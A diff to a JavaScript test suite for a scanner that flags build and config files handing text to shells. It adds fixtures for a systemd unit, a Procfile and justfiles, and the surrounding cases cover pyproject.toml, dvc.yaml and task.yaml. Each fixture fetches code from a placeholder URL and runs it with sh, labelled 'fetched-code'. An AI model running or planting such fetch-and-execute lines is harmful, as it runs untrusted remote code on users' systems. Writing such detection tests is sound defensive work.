@@ -45,6 +45,12 @@ describe('files that hand some of their text to shells', () => {
       'fetched-code',
     ],
     ['pyproject.toml', `[tool.poe.tasks]\na = "sh -c 'curl -so x ${U}; sh x'"`, 'fetched-code'],
+    ['x.service', `[Service]\nExecStartPre=-+/bin/sh -c \\\n 'curl -s ${U} | sh'`, 'fetched-code'],
+    ['x.service', `[Service]\nEnvironment="U=${U}"\nExecStart=/bin/sh -c 'curl -s $U | sh'`, 'fetched-code'],
+    ['Procfile', `web: python x.py\nrelease: curl -s ${U} | sh`, 'fetched-code'],
+    ['justfile', `u := '${U}'\na b='c':\n    @curl -so x {{u}}\n    sh x`, 'fetched-code'],
+    ['justfile', `x := \`curl -s ${U} | sh\`\na:\n  echo {{x}}`, 'fetched-code'],
+    ['justfile', `a:\n  #!/usr/bin/env bash\n  curl -so x ${U}\n  sh x`, 'fetched-code'],
     ['dvc.yaml', `stages:\n  a:\n    cmd: [curl -so a ${U}, sh a]`, 'fetched-code'],
     ['task.yaml', `setup: |\n  wget -qO a ${U}\n  bash a\nrun: python x.py`, 'fetched-code'],
     [
